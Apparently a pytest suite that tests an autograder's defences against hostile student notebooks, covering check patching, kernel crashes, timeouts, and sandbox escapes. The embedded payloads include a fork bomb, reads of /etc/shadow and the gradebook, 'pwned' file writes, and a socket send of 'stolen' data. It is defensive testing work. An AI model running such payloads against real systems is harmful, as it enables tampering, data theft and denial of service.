"""The hostile-submission suite: a synthetic class graded once, end to end through nbgrader.

The class is the demo's (solution, untouched, one student per catalogued mistake) plus
students who attack the checks, the kernel, the sandbox and the file format, each with
its expected status and score. Each test reads the one grading run.
"""
import asyncio
import csv
import json
import os
import re
import socket
import threading
from pathlib import Path
from queue import Empty

import nbformat
import pytest
from nbclient.exceptions import DeadKernelError
from nbformat.v4 import new_code_cell, new_markdown_cell

from autograder.course.labs import ROOT, read_notebook, source_path, student_path
from autograder.demo.synthetic_class import build_class, completed_notebook, one_student_per_mistake, write_submission
from autograder.grading.execution import JudgedExecute
from autograder.grading.results import Status, SubmissionResult, read_result
from autograder.grading.worker import autograde_config
from autograder.judging.mistakes import catalogue
from autograder.pipeline.run import grade
from autograder.sandbox.bubblewrap import Limits, bwrap_problem, pids_cgroup_root
from autograder.sandbox.kernels import FORKED

# The class's grading is checked to leave no process behind, of any run on the machine: alone.
pytestmark = pytest.mark.alone

LAB = "01_matrix_shapes"
TIMEOUT = 5
# Enough for the slow-matmul student's three kills (TIMEOUT + 3 s of grace each) and four runs.
WALL = 60
SANDBOXED = bwrap_problem() is None
needs_sandbox = pytest.mark.skipif(not SANDBOXED, reason=f"no sandbox on this machine: {bwrap_problem()}")


def insert_after(nb, cell_id: str, code: str):
    index = next(i for i, cell in enumerate(nb.cells) if cell.get("id") == cell_id)
    nb.cells.insert(index + 1, new_code_cell(code))
    return nb


def first_mistake(task):
    return next(m for m in catalogue(LAB) if m.task == task)


WRONG_EVERYWHERE = [first_mistake("product_shape"), first_mistake("matmul"), first_mistake("ffnn_forward")]
SOLUTION_FILE = source_path(LAB)

# student: (mistakes (None: untouched, []: all right), insert after cell id, code)
HOSTILE = {
    # Replaces the check of matmul with one that always succeeds.
    "patches-the-check": (
        [first_mistake("matmul")], "setup",
        "import labutils.checks.lab01 as lab01\n"
        "lab01.check_matmul = lambda fn: print('✔ matmul: all public cases pass')\n"),
    # Disarms the check engine and the assertion machinery.
    "patches-the-engine": (
        WRONG_EVERYWHERE, "setup",
        "import builtins, labutils.checks.engine as engine\n"
        "engine.examine = lambda *args, **kwargs: type('Passed', (), {'passed': True, 'cases_run': 1})()\n"
        "engine.CheckFailed = type('Never', (Exception,), {})\n"
        "builtins.AssertionError = type('Never', (Exception,), {})\n"),
    # Rewrites every later cell, test cells and the grader's probes included, to `pass`.
    "input-transformer": (
        None, "setup",
        "get_ipython().input_transformers_cleanup.append(lambda lines: ['pass\\n'])\n"),
    # Hides every traceback.
    "hides-tracebacks": (
        WRONG_EVERYWHERE, "setup",
        "import sys\n"
        "get_ipython().showtraceback = lambda *args, **kwargs: None\n"
        "sys.excepthook = lambda *args: None\n"),
    # Right answers, noisy on stderr: a warning must cost nothing.
    "warns-on-stderr": (
        [], "setup",
        "import sys, warnings\n"
        "def noisy(fn):\n"
        "    def wrapper(*args, **kwargs):\n"
        "        warnings.warn('loops in Python are slow', RuntimeWarning)\n"
        "        print('debug: called', fn.__name__, file=sys.stderr)\n"
        "        return fn(*args, **kwargs)\n"
        "    return wrapper\n"),
    # Right answers, then a cell that never ends (it obeys the interrupt).
    "loops-after-answering": ([], "summary", "while True:\n    pass\n"),
    # Right answers, then a loop that swallows KeyboardInterrupt: only a kill ends it; a
    # fresh kernel grades the rest.
    "swallows-interrupts": (
        [], "summary",
        "while True:\n    try:\n        while True:\n            pass\n    except KeyboardInterrupt:\n        pass\n"),
    # Right answers, then a flood that swallows the interrupt the flood earns, and the timeout's: the
    # output is dropped, and the kernel killed at the timeout.
    "floods-and-swallows-interrupts": (
        [], "summary",
        "import sys\nwhile True:\n    try:\n        while True:\n            sys.stdout.write('x' * 1_000_000)\n"
        "    except KeyboardInterrupt:\n        pass\n"),
    # Right answers, then cells that each stay under the cell limit but together pass the wall clock.
    "slow-but-steady": ([], "summary", ["import time\ntime.sleep(TIMEOUT - 1)\n"] * (WALL // (TIMEOUT - 1) + 5)),
    # The kernel ends itself before any answer is checked.
    "exits-the-kernel": ([], "setup", "import os\nos._exit(1)\n"),
    # Right answers, then the kernel ends itself in the student's own last cell.
    "exits-at-the-end": ([], "summary", "import os\nos._exit(1)\n"),
    # sys.exit in a notebook is an error in that cell, nothing more.
    "calls-sys-exit": ([], "setup", "import sys\nsys.exit(3)\n"),
    # A segfault.
    "segfaults": ([], "setup", "import ctypes\nctypes.string_at(0)\n"),
    # Right answers, then a segfault in the student's own last cell.
    "segfaults-at-the-end": ([], "summary", "import ctypes\nctypes.string_at(0)\n"),
    # Right answers, then a segfault in each of four cells: one more than the restarts allowed.
    "segfaults-again-and-again": ([], "summary", ["import ctypes\nctypes.string_at(0)\n"] * 4),
    # Asks for 8 GB at once, then grows until refused: MemoryError, the rest graded.
    "memory-bomb": (
        [], "setup",
        "try:\n    hog = bytearray(8 * 1024 ** 3)\nexcept MemoryError:\n    pass\n"
        "import numpy as np\nhogs = []\ntry:\n    while True:\n        hogs.append(np.empty(256 * 1024 ** 2, np.uint8))\n"
        "except MemoryError:\n    del hogs\n"),
    # Forks sleepers until refused; they must not outlive the grading.
    "fork-bomb": (
        [], "setup",
        "import os, time\nchildren = 0\ntry:\n    for _ in range(100_000):\n"
        "        if os.fork() == 0:\n            time.sleep(600)\n            os._exit(0)\n"
        "        children += 1\nexcept OSError as exc:\n    print('refused after', children, exc)\n"),
    # 100 MB of output.
    "floods-output": ([], "setup", "import sys\nfor _ in range(100):\n    sys.stdout.write('x' * 1_000_000)\n"),
    # Tries to read the solution, the gradebook, other students, the home directory.
    "snoops": ([], "setup", "SNOOP"),
    # Tries to write outside its scratch: the check code, the project, the system.
    "writes-outside": ([], "setup", "WRITE"),
    # Tries to reach the grading machine over the network.
    "phones-home": ([], "setup", "PHONE"),
}

SNOOP = """
import glob, os
targets = [{solution!r}, {gradebook!r}, {submitted!r}, {root!r} + '/autograder/judging/judges.py',
           {root!r} + '/solutions', '/root/.profile', '/etc/shadow']
for path in targets:
    try:
        found = os.listdir(path) if os.path.isdir(path) else open(path, 'rb').read(10)
        print('READ', path, str(found)[:40])
    except OSError as exc:
        print('DENIED', path, type(exc).__name__)
"""

WRITE = """
for path in [{check!r}, {root!r} + '/pwned.txt', '/usr/pwned.txt', '/pwned.txt']:
    try:
        with open(path, 'a') as handle:
            handle.write('pwned')
        print('WROTE', path)
    except OSError as exc:
        print('DENIED', path, type(exc).__name__)
"""

PHONE = """
import socket
for host in ['127.0.0.1', 'pypi.org']:
    try:
        socket.create_connection((host, {port}), timeout=2).sendall(b'stolen')
        print('CONNECTED', host)
    except OSError as exc:
        print('DENIED', host, type(exc).__name__)
"""


BROKEN_FILES = [
    ("corrupt-json", f"{LAB}.ipynb", b'{"cells": [{"cell_type": "code", '),
    ("empty-file", f"{LAB}.ipynb", b""),
    ("latin-1", f"{LAB}.ipynb", '{"caf\u00e9": 1}'.encode("latin-1")),
    ("two-wrong-names", "lab1.ipynb", b"{}"),
    ("two-wrong-names", "lab1 copy.ipynb", b"{}"),
]


def hostile_notebook(student_id, context):
    mistakes, after, code = HOSTILE[student_id]
    if code in ("SNOOP", "WRITE", "PHONE"):
        code = {"SNOOP": SNOOP, "WRITE": WRITE, "PHONE": PHONE}[code].format(**context)
    nb = read_notebook(student_path(LAB)) if mistakes is None else completed_notebook(LAB, mistakes)
    for source in reversed(code if isinstance(code, list) else [code]):
        nb = insert_after(nb, after, source.replace("TIMEOUT", str(TIMEOUT)))
    if student_id == "warns-on-stderr":
        for cell in nb.cells:
            if cell.get("id") in ("product_shape", "matmul", "ffnn_forward"):
                cell.source = "@noisy\n" + cell.source
    return nb


def matmul_notebook(prologue: str | None):
    """Right answers, except that matmul runs `prologue` first (None: it only loops)."""
    nb = completed_notebook(LAB)
    cell = next(cell for cell in nb.cells if cell.get("id") == "matmul")
    if prologue is None:
        cell.source = "def matmul(A, B):\n    while True:\n        pass\n"
    else:
        header, body = cell.source.split("\n", 1)
        assert header.startswith("def matmul(")
        cell.source = f"{header}\n{prologue}{body}"
    return nb


# A matmul far slower than the cell limit (the issue's `time.sleep(30)`), which also
# swallows the interrupt: a plain sleep obeys it, so the kernel would only be interrupted.
SLOW_PROLOGUE = """\
    import time
    for _ in range(30):
        try:
            time.sleep(1)
        except KeyboardInterrupt:
            pass
"""
SEGFAULT_PROLOGUE = "    import ctypes\n    ctypes.string_at(0)\n"


def restructured_notebooks():
    """Right answers; the notebook's structure and metadata damaged in every way a student can."""
    def without_test_cells(nb):
        nb.cells = [c for c in nb.cells if not c.get("id", "").startswith("test_")]
        return nb

    def duplicated_and_edited_test_cell(nb):
        index = next(i for i, c in enumerate(nb.cells) if c.get("id") == "test_matmul")
        copy = nbformat.from_dict(nb.cells[index])
        copy.id = "my-copy-of-the-test"
        nb.cells[index].source = "print('all good')"
        nb.cells.insert(index, copy)
        return nb

    def reordered(nb):
        nb.cells = list(reversed(nb.cells[:4])) + nb.cells[4:][::-1]
        return nb

    def test_cells_as_markdown(nb):
        for index, cell in enumerate(nb.cells):
            if cell.get("id", "").startswith("test_"):
                nb.cells[index] = new_markdown_cell(cell.source, metadata=cell.metadata, id=cell.id)
        return nb

    def edited_metadata(nb):
        for cell in nb.cells:
            meta = cell.metadata.get("nbgrader", {})
            if meta.get("grade"):
                meta["points"] = 100
            if cell.get("id") == "test_matmul":
                meta["grade"] = False
            if cell.get("id") == "matmul":
                del cell.metadata["nbgrader"]
                cell.id = "my-matmul"
        return nb

    return {name: edit(completed_notebook(LAB)) for name, edit in [
        ("deletes-test-cells", without_test_cells), ("duplicates-a-test-cell", duplicated_and_edited_test_cell),
        ("reorders-cells", reordered), ("markdown-test-cells", test_cells_as_markdown),
        ("edits-metadata", edited_metadata)]}


class Listener:
    """A TCP server on the grading machine's loopback that records whatever reaches it."""

    def __init__(self):
        self.server = socket.create_server(("127.0.0.1", 0))
        self.port = self.server.getsockname()[1]
        self.received = []
        threading.Thread(target=self.serve, daemon=True).start()

    def serve(self):
        while True:
            try:
                connection, _ = self.server.accept()
            except OSError:
                return
            self.received.append(connection.recv(100))


def our_processes(marker: str) -> list[str]:
    """Command lines of live processes that mention `marker` (the grader's kernels do)."""
    found = []
    for pid in os.listdir("/proc"):
        try:
            cmdline = Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\0", b" ").decode()
        except OSError:
            continue
        if marker in cmdline and int(pid) != os.getpid():
            found.append(cmdline)
    return found


@pytest.fixture(scope="session")
def graded(tmp_path_factory):
    root = tmp_path_factory.mktemp("class")
    submitted, out = root / "submitted", root / "out"
    listener = Listener()
    context = {"solution": str(SOLUTION_FILE), "gradebook": str(out / "gradebook.db"),
               "submitted": str(submitted), "root": str(ROOT), "port": listener.port,
               "check": str(ROOT / "labutils" / "checks" / "lab01.py")}
    check_before = (ROOT / "labutils" / "checks" / "lab01.py").read_bytes()
    expected = build_class(one_student_per_mistake(LAB), submitted)
    for student_id in HOSTILE:
        write_submission(submitted, student_id, LAB, hostile_notebook(student_id, context))
    for student_id, nb in restructured_notebooks().items():
        write_submission(submitted, student_id, LAB, nb)
    write_submission(submitted, "loops-in-matmul", LAB, matmul_notebook(None))
    write_submission(submitted, "slow-matmul", LAB, matmul_notebook(SLOW_PROLOGUE))
    write_submission(submitted, "segfaults-in-matmul", LAB, matmul_notebook(SEGFAULT_PROLOGUE))
    old = submitted / "nbformat-3" / LAB / f"{LAB}.ipynb"
    old.parent.mkdir(parents=True)
    nbformat.write(nbformat.convert(completed_notebook(LAB), 3), old)
    renamed = submitted / "wrong-name" / LAB / "lab1 (1).ipynb"
    renamed.parent.mkdir(parents=True)
    nbformat.write(completed_notebook(LAB), renamed)
    extra = write_submission(submitted, "extra-files", LAB, completed_notebook(LAB)).parent
    (extra / "notes.txt").write_text("scratch")
    (submitted / "missing-notebook" / LAB).mkdir(parents=True)
    for student_id, name, content in BROKEN_FILES:
        path = submitted / student_id / LAB / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content)
    results = grade(submitted, out, timeout=TIMEOUT, limits=Limits(wall_seconds=WALL))
    return {"root": root, "expected": expected, "results": {r.student_id: r for r in results},
            "listener": listener, "check_before": check_before, "leftovers": our_processes("nnlabs-")}


def points(graded, student_id):
    return graded["results"][student_id].points


def cell_points(graded, student_id):
    return {grade_id: cell.points for grade_id, cell in graded["results"][student_id].cells.items()}


def test_the_solution_scores_full_marks_and_the_untouched_version_zero(graded):
    assert points(graded, "solution") == 5
    assert points(graded, "untouched") == 0
    for cell in graded["results"]["untouched"].cells.values():
        assert "task" in cell.check_message and cell.judge.task in cell.check_message


def test_each_mistake_costs_exactly_its_cell_and_the_judge_names_it(graded):
    task_of_cell = {"test_product_shape": "product_shape", "test_matmul": "matmul",
                    "test_ffnn_forward": "ffnn_forward"}
    for student_id, labs in graded["expected"].items():
        mistakes = labs[LAB]
        if not mistakes:
            continue
        wrong_tasks = {m.task: m.name for m in mistakes}
        for grade_id, cell in graded["results"][student_id].cells.items():
            task = task_of_cell[grade_id]
            if task in wrong_tasks:
                assert cell.points == 0, (student_id, grade_id)
                assert cell.judge.mistake == wrong_tasks[task], (student_id, cell.judge)
                assert wrong_tasks[task] in cell.check_message, (student_id, cell.check_message)
            else:
                assert cell.points == cell.max_points, (student_id, grade_id, cell)


def test_patching_the_check_passes_the_check_but_not_the_judge(graded):
    cells = graded["results"]["patches-the-check"].cells
    assert cells["test_matmul"].check_passed
    assert not cells["test_matmul"].judge.passed
    assert cell_points(graded, "patches-the-check") == {
        "test_product_shape": 1, "test_matmul": 0, "test_ffnn_forward": 2}


def test_disarming_the_engine_and_assertions_scores_nothing(graded):
    cells = graded["results"]["patches-the-engine"].cells
    assert all(cell.check_passed for cell in cells.values())
    assert points(graded, "patches-the-engine") == 0


def test_an_input_transformer_that_silences_later_cells_scores_nothing(graded):
    result = graded["results"]["input-transformer"]
    assert points(graded, "input-transformer") == 0
    assert all("no result came back" in cell.judge.message for cell in result.cells.values())


def test_hidden_tracebacks_still_fail(graded):
    assert points(graded, "hides-tracebacks") == 0
    assert not any(cell.check_passed for cell in graded["results"]["hides-tracebacks"].cells.values())


def test_warnings_and_stderr_cost_nothing(graded):
    assert points(graded, "warns-on-stderr") == 5
    notebook = graded["root"] / "out" / "autograded" / "warns-on-stderr" / LAB / f"{LAB}.ipynb"
    outputs = [o for cell in nbformat.read(notebook, as_version=4).cells for o in cell.get("outputs", [])]
    assert any(o.get("name") == "stderr" for o in outputs), "the submission did write to stderr"


def test_an_infinite_loop_times_out_and_grading_goes_on(graded):
    assert points(graded, "loops-after-answering") == 5
    assert cell_points(graded, "loops-in-matmul") == {
        "test_product_shape": 1, "test_matmul": 0, "test_ffnn_forward": 2}
    execution = graded["results"]["loops-in-matmul"]
    assert execution.seconds < 6 * TIMEOUT


def autograded_cell(graded, student_id, index):
    notebook = graded["root"] / "out" / "autograded" / student_id / LAB / f"{LAB}.ipynb"
    return nbformat.read(notebook, as_version=4).cells[index]


def test_a_kernel_that_exits_costs_only_its_cell(graded):
    # The exit is in a cell of the student's own, before any answer: no exercise's code ended
    # the kernel, so a fresh one grades every exercise.
    result = graded["results"]["exits-the-kernel"]
    assert result.sentence == "crashed in cell 2 (exit status 1); graded without it"
    assert result.points == 5
    (error,) = autograded_cell(graded, "exits-the-kernel", 2).outputs
    assert error.ename == "KernelDied" and "not run" in error.evalue and "exit status 1" in error.evalue
    assert points(graded, "solution") == 5


def test_sys_exit_is_an_error_in_its_cell_only(graded):
    result = graded["results"]["calls-sys-exit"]
    assert (result.status, result.points) == ("graded", 5)


def test_a_segfault_is_a_crash_named_as_such_and_costs_only_its_cell(graded):
    result = graded["results"]["segfaults"]
    assert result.sentence == "crashed in cell 2 (a segmentation fault (SIGSEGV)); graded without it"
    assert (result.status, result.points) == (Status.CRASHED, 5)


@pytest.mark.parametrize("student_id, status", [
    ("segfaults-at-the-end", "crashed in cell 23 (a segmentation fault (SIGSEGV)); graded without it"),
    ("exits-at-the-end", "crashed in cell 23 (exit status 1); graded without it"),
    ("swallows-interrupts", f"killed in cell 23 (ran past the {TIMEOUT} s limit and ignored the interrupt); "
                            "graded without it"),
    ("floods-and-swallows-interrupts", f"killed in cell 23 (ran past the {TIMEOUT} s limit and ignored the "
                                       "interrupt); graded without it"),
])
def test_a_kernel_that_ends_in_the_last_ungraded_cell_keeps_every_point(graded, student_id, status):
    result = graded["results"][student_id]
    assert (result.sentence, result.points, result.max_points) == (status, 5, 5)
    assert all(cell.check_passed and cell.judge.passed for cell in result.cells.values())
    execution = json.loads((graded["root"] / "out" / "results" / student_id / f"{LAB}.json").read_text())["execution"]
    assert [(death["cell"], death["kind"], death["restarted"]) for death in execution["kernel_deaths"]] == [
        (23, status.split()[0], True)]


def test_a_loop_that_swallows_the_interrupt_gets_its_kernel_killed_and_replaced(graded):
    result = graded["results"]["swallows-interrupts"]
    assert result.status is Status.KILLED and "ignored the interrupt" in result.detail
    assert result.seconds < TIMEOUT + 20


def test_a_slow_function_that_ignores_the_interrupt_costs_only_its_exercise(graded):
    result = graded["results"]["slow-matmul"]
    assert cell_points(graded, "slow-matmul") == {"test_product_shape": 1, "test_matmul": 0, "test_ffnn_forward": 2}
    killed = f"(ran past the {TIMEOUT} s limit and ignored the interrupt)"
    # matmul's check (cell 7), the example that calls it (cell 9), then its hidden test.
    assert result.sentence == (f"killed in cell 7 {killed}; graded without it; "
                             f"then killed in cell 9 {killed}; graded without it; "
                             f"then killed in matmul's hidden test {killed}; the kernel was restarted")
    matmul = result.cells["test_matmul"]
    assert "not run" in matmul.check_message and "the kernel was killed" in matmul.judge.message
    assert result.seconds < WALL


def test_a_crash_inside_a_graded_answer_still_costs_that_exercise(graded):
    result = graded["results"]["segfaults-in-matmul"]
    assert cell_points(graded, "segfaults-in-matmul") == {
        "test_product_shape": 1, "test_matmul": 0, "test_ffnn_forward": 2}
    assert result.sentence.startswith("crashed in cell 7 (a segmentation fault (SIGSEGV)); graded without it")
    assert "crashed in matmul's hidden test (a segmentation fault (SIGSEGV))" in result.sentence
    assert "the kernel crashed (a segmentation fault (SIGSEGV))" in result.cells["test_matmul"].judge.message


def test_restarts_are_bounded_and_past_them_what_is_left_scores_zero(graded):
    result = graded["results"]["segfaults-again-and-again"]
    assert result.sentence.startswith(
        "crashed in cell 26 (a segmentation fault (SIGSEGV)); not restarted (the kernel had already been "
        "restarted 3 times), so what was left scored 0 (before that: crashed in cell 23")
    assert result.points == 0
    assert all("the kernel died" in cell.judge.message for cell in result.cells.values())


class QuietKernel:
    """A kernel client and manager whose kernel never replies to the timed-out cell;
    `idle`: it answers a kernel_info request (it is idle: the cell's reply was lost)."""

    def __init__(self, idle: bool):
        self.idle, self.asked_for_info, self.killed = idle, False, False
        self.shell_channel = self

    def kernel_info(self):
        self.asked_for_info = True

    async def get_msg(self, timeout):
        if self.idle and self.asked_for_info:
            return {"parent_header": {"msg_id": "info"}, "msg_type": "kernel_info_reply", "content": {}}
        raise Empty

    async def interrupt_kernel(self):
        pass

    def kill_sandbox(self):
        self.killed = True


def timed_out_cell(kernel: QuietKernel):
    """What the grader makes of a cell past its limit in `kernel`: (the reply, the grader)."""
    execute = JudgedExecute(interrupt_grace=0.1)
    execute.km = execute.kc = kernel
    execute.kill_reason, execute.counting_output, execute.timed_out, execute.current_index = None, True, [], 7
    try:
        return asyncio.run(execute._async_handle_timeout(TIMEOUT)), execute
    except DeadKernelError:
        return None, execute


def test_an_interrupt_that_lands_after_the_cells_code_ended_is_not_a_kill():
    # ipykernel catches a KeyboardInterrupt that lands between the end of a cell's code and
    # its reply ("KeyboardInterrupt caught in kernel") and never replies to that cell: the
    # issue's `time.sleep(30)` under a 30 s limit was killed so. The idle kernel still answers.
    reply, execute = timed_out_cell(QuietKernel(idle=True))
    assert reply["content"]["ename"] == "CellTimeoutError" and execute.timed_out == [7]
    assert not execute.km.killed and execute.kill_reason is None


def test_a_kernel_busy_past_the_grace_is_killed():
    reply, execute = timed_out_cell(QuietKernel(idle=False))
    assert reply is None and execute.km.killed
    assert execute.kill_reason == f"ran past the {TIMEOUT} s limit and ignored the interrupt"


def test_the_wall_clock_limit_kills_a_notebook_of_slow_cells(graded):
    result = graded["results"]["slow-but-steady"]
    assert result.status is Status.KILLED
    assert f"(the notebook ran past the wall-clock limit of {WALL} s); not restarted (the wall clock had run out), "\
           "so what was left scored 0" in result.detail
    assert result.seconds < WALL + 15


def test_a_memory_bomb_is_refused_and_the_rest_graded(graded):
    assert (graded["results"]["memory-bomb"].status, points(graded, "memory-bomb")) == (Status.GRADED, 5)


@pytest.mark.skipif(os.geteuid() == 0 and pids_cgroup_root() is None,
                    reason="root without a writable pids cgroup: no process limit can be set here")
def test_a_fork_bomb_is_refused_and_the_rest_graded(graded):
    assert (graded["results"]["fork-bomb"].status, points(graded, "fork-bomb")) == (Status.GRADED, 5)
    notebook = graded["root"] / "out" / "autograded" / "fork-bomb" / LAB / f"{LAB}.ipynb"
    assert "refused after" in json.dumps(nbformat.read(notebook, as_version=4).cells[2].outputs)


def test_no_process_outlives_the_grading(graded):
    assert graded["leftovers"] == []


def test_a_flood_of_output_is_cut_and_interrupted_and_the_rest_graded(graded):
    result = graded["results"]["floods-output"]
    assert result.sentence.startswith("interrupted (cell 2 printed more than 40 MB")
    assert result.points == 5
    notebook = graded["root"] / "out" / "autograded" / "floods-output" / LAB / f"{LAB}.ipynb"
    assert notebook.stat().st_size < 6 * 1024 * 1024


def cell_output(graded, student_id, index):
    notebook = graded["root"] / "out" / "autograded" / student_id / LAB / f"{LAB}.ipynb"
    return "".join(o.get("text", "") for o in nbformat.read(notebook, as_version=4).cells[index].outputs)


@needs_sandbox
def test_the_sandbox_hides_solutions_gradebook_other_students_and_home(graded):
    text = cell_output(graded, "snoops", 2)
    assert "READ" not in text and text.count("DENIED") == 7, text
    assert points(graded, "snoops") == 5


@needs_sandbox
def test_the_sandbox_is_read_only_outside_scratch(graded):
    text = cell_output(graded, "writes-outside", 2)
    written = [line.split()[1] for line in text.splitlines() if line.startswith("WROTE")]
    # Only a path under /tmp can be written, into the sandbox's own in-memory /tmp (the
    # project may be checked out under /tmp, as in CI): nothing of it reaches the machine.
    assert all(path.startswith("/tmp/") for path in written), text
    assert text.count("DENIED") + len(written) == 4 and "DENIED /usr/pwned.txt" in text and "DENIED /pwned.txt" in text
    assert f"DENIED {ROOT / 'labutils' / 'checks' / 'lab01.py'}" in text
    assert (ROOT / "labutils" / "checks" / "lab01.py").read_bytes() == graded["check_before"]
    assert not (ROOT / "pwned.txt").exists()


@needs_sandbox
def test_the_sandbox_has_no_network(graded):
    text = cell_output(graded, "phones-home", 2)
    assert "CONNECTED" not in text and text.count("DENIED") == 2, text
    assert graded["listener"].received == []


def test_tampering_is_flagged_in_results_and_gradebook(graded):
    from nbgrader.api import Gradebook

    for student_id in ("patches-the-check", "patches-the-engine", "input-transformer", "hides-tracebacks"):
        assert graded["results"][student_id].flags, student_id
    assert "assigns to lab01.check_matmul" in graded["results"]["patches-the-check"].flags[0]
    assert not graded["results"]["solution"].flags and not graded["results"]["warns-on-stderr"].flags
    with Gradebook(f"sqlite:///{graded['root'] / 'out' / 'gradebook.db'}") as gb:
        assert gb.find_submission_notebook(LAB, LAB, "patches-the-check").flagged
        assert not gb.find_submission_notebook(LAB, LAB, "solution").flagged


@pytest.mark.parametrize("student_id, note", [
    ("deletes-test-cells", "test cell 'test_matmul' was missing; restored"),
    ("duplicates-a-test-cell", "test cell 'test_matmul' appeared 2 times; kept once"),
    ("reorders-cells", None),
    ("markdown-test-cells", "test cell 'test_matmul' had been turned into markdown; restored"),
    ("edits-metadata", "answer cell 'matmul' had lost its metadata; found by what it defines"),
    ("nbformat-3", "converted from nbformat 3 to 4"),
    ("wrong-name", "the notebook was named lab1 (1).ipynb; graded as 01_matrix_shapes.ipynb"),
    ("extra-files", "extra files ignored: notes.txt"),
])
def test_damaged_structure_is_restored_from_the_source_and_graded(graded, student_id, note):
    result = graded["results"][student_id]
    assert (result.status, result.points, result.max_points) == (Status.GRADED, 5, 5), result
    if note:
        assert note in result.notes


@pytest.mark.parametrize("student_id, reason", [
    ("corrupt-json", "not valid JSON"), ("empty-file", "empty"), ("latin-1", "not UTF-8"),
    ("two-wrong-names", "no 01_matrix_shapes.ipynb was submitted (found lab1 copy.ipynb, lab1.ipynb)"),
    ("missing-notebook", "no 01_matrix_shapes.ipynb was submitted"),
])
def test_unreadable_submissions_get_a_clear_status_and_zero(graded, student_id, reason):
    result = graded["results"][student_id]
    assert result.status is Status.ERROR and reason in result.sentence
    assert result.points == 0 and result.max_points == 5


def test_feedback_says_when_the_kernel_was_restarted(graded):
    page = (graded["root"] / "out" / "feedback" / "slow-matmul" / f"{LAB}.html").read_text()
    assert "3 / 5 points" in page and "killed in cell 7" in page and "the kernel was restarted" in page


def test_feedback_names_points_messages_and_mistakes_but_no_hidden_inputs(graded):
    page = (graded["root"] / "out" / "feedback" / "mistake-matmul-transposed-indexing" / f"{LAB}.html").read_text()
    assert "3 / 5 points" in page and "transposed indexing" in page and "hidden tests" in page
    judges = (ROOT / "autograder" / "judging" / "hidden_cases" / "lab01.py").read_text()
    assert not any(line.strip() and line.strip() in page for line in judges.splitlines() if len(line.strip()) > 25)


def test_the_report_shows_figures_statuses_flags_and_the_slowest(graded):
    page = (graded["root"] / "out" / "report.html").read_text()
    assert page.count("data:image/png;base64,") == 3
    for text in ("swallows-interrupts", "killed", "crashed", "corrupt-json", "patches-the-check",
                 "Slowest submissions", "transposed indexing", "killed in matmul&#x27;s hidden test"):
        assert text in page, text
    assert ("bubblewrap sandbox" in page) == SANDBOXED


def test_grading_again_with_nothing_new_grades_nothing_and_changes_nothing(graded, monkeypatch):
    import autograder.pipeline.run

    out = graded["root"] / "out"
    before = {path: path.read_bytes() for path in [out / "grades.csv", *(out / "results").rglob("*.json")]}
    started = []
    run_jobs = autograder.pipeline.run.run_jobs
    monkeypatch.setattr(autograder.pipeline.run, "run_jobs", lambda jobs, *args: started.extend(jobs) or run_jobs(jobs, *args))
    again = grade(graded["root"] / "submitted", out, timeout=TIMEOUT, limits=Limits(wall_seconds=WALL))
    assert started == []
    assert {path: path.read_bytes() for path in before} == before
    assert {r.student_id: (r.sentence, r.points) for r in again} == {
        s: (r.sentence, r.points) for s, r in graded["results"].items()}


def test_grades_csv_has_a_row_per_student_and_a_total(graded):
    rows = list(csv.DictReader((graded["root"] / "out" / "grades.csv").open()))
    by_student = {row["student_id"]: row for row in rows}
    assert set(by_student) == set(graded["results"])
    assert by_student["solution"][LAB] == "5" and by_student["solution"]["total"] == "5"
    assert by_student["untouched"]["total"] == "0"


def test_results_go_into_nbgraders_gradebook_and_its_feedback_works(graded):
    from nbgrader.api import Gradebook
    from nbgrader.converters import GenerateFeedback
    from nbgrader.coursedir import CourseDirectory

    out = graded["root"] / "out"
    with Gradebook(f"sqlite:///{out / 'gradebook.db'}") as gb:
        assert gb.find_submission(LAB, "solution").score == 5
        assert gb.find_submission(LAB, "mistake-matmul-transposed-indexing").score == 3
    config = autograde_config(graded["root"] / "submitted", out, None)
    config.CourseDirectory.feedback_directory = str(out / "nbgrader-feedback")
    coursedir = CourseDirectory(config=config)
    coursedir.assignment_id, coursedir.student_id = LAB, "mistake-matmul-transposed-indexing"
    GenerateFeedback(coursedir=coursedir, config=config).start()
    html = next((out / "nbgrader-feedback").rglob("*.html")).read_text()
    assert "transposed indexing" in html and "HiddenTestsFailed" in html


def test_each_submission_has_a_results_file(graded):
    for student_id in graded["results"]:
        path = graded["root"] / "out" / "results" / student_id / f"{LAB}.json"
        result = read_result(path)
        assert result == graded["results"][student_id] and result.lab_id == LAB
        if result.status is Status.GRADED:
            assert set(result.cells) == {"test_product_shape", "test_matmul", "test_ffnn_forward"}


# The first student of a worker leaves everything it can behind; the second, graded next by
# the same worker (and, where it runs, the same fork server), must be graded as if alone.
LEAVES_TRACES = """\
import os, subprocess, sys, time, numpy, labutils
print("started", time.time())
print("draws", numpy.random.random(), __import__("random").random())
numpy.matmul = lambda a, b: "patched"          # the module, in memory
labutils.TRACE = "left by the first student"
sys.modules["numpy"].TRACE = True
for folder in ("/tmp", os.path.expanduser("~")):
    open(os.path.join(folder, "left-behind"), "w").write("trace")
subprocess.Popen(["sleep", "4241"], start_new_session=True)  # a daemon
if os.fork() == 0:                                            # another, double-forked
    os.setsid()
    if os.fork() == 0:
        os.execvp("sleep", ["sleep", "4242"])
    os._exit(0)
"""
GRADED_AFTER = """\
import os, time, numpy, labutils
def daemons():
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            found.append(open(f"/proc/{pid}/cmdline", "rb").read().replace(b"\\0", b" ").decode())
        except OSError:
            pass
    return [command for command in found if command.startswith("sleep 424")]
print("started", time.time())
print("draws", numpy.random.random(), __import__("random").random())
print("SEEN", numpy.matmul is numpy.core.multiarray.matmul if hasattr(numpy, "core") else True,
      hasattr(numpy, "TRACE"), hasattr(labutils, "TRACE"),
      os.path.exists("/tmp/left-behind"), os.path.exists(os.path.expanduser("~/left-behind")), daemons())
"""


@pytest.fixture(scope="module")
def graded_in_turn(tmp_path_factory):
    root = tmp_path_factory.mktemp("in-turn")
    submitted = root / "submitted"
    for student_id, code in (("a-leaves-traces", LEAVES_TRACES), ("b-graded-after", GRADED_AFTER)):
        nb = nbformat.read(SOLUTION_FILE, as_version=4)
        first_code = next(cell for cell in nb.cells if cell.cell_type == "code")
        write_submission(submitted, student_id, LAB, insert_after(nb, first_code.id, code))
    results = {r.student_id: r for r in grade(submitted, root / "out", workers=1, timeout=TIMEOUT,
                                               limits=Limits(wall_seconds=WALL))}
    outputs = {}
    for student_id in results:
        nb = nbformat.read(root / "out" / "autograded" / student_id / LAB / f"{LAB}.ipynb", as_version=4)
